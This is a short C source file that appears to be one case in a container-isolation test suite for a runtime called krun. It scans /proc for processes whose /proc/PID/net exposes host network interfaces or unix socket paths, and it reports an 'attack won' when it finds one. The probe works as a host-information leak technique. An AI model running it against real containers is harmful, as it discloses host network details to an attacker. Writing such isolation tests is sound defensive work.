// The host's network, in /proc/PID/net of krun's own process on its way into the container: everybody in the container's pid
// namespace may read interfaces, routes, connections and the paths of sockets there.
#include "attack.h"
#include <dirent.h>

// Whether the network namespace of /proc/WHO has an interface besides lo, or a socket with a path.
static int has_more(const char *who) {
    static const char *const names[] = {"dev", "unix"};
    for (int i = 0; i < 2; i++) {
        char path[300], line[512];
        snprintf(path, sizeof path, "/proc/%s/net/%s", who, names[i]);
        FILE *f = fopen(path, "re");
        int found = 0;
        while (f && !found && fgets(line, sizeof line, f))
            found = i ? strchr(line, '/') != NULL : strchr(line, ':') && !strstr(line, " lo:");
        if (f)
            fclose(f);
        if (found)
            return 1;
    }
    return 0;
}

int main(void) {
    if (has_more("self"))
        attack_broken("the container's own network");
    while (!attack_over()) {
        DIR *proc = opendir("/proc");
        if (!proc)
            attack_broken("/proc");
        for (struct dirent *e; (e = readdir(proc));)
            if (atoi(e->d_name) > 0 && has_more(e->d_name))
                attack_won("the host's network, by process %s", e->d_name);
        closedir(proc);
    }
    attack_lost();
}
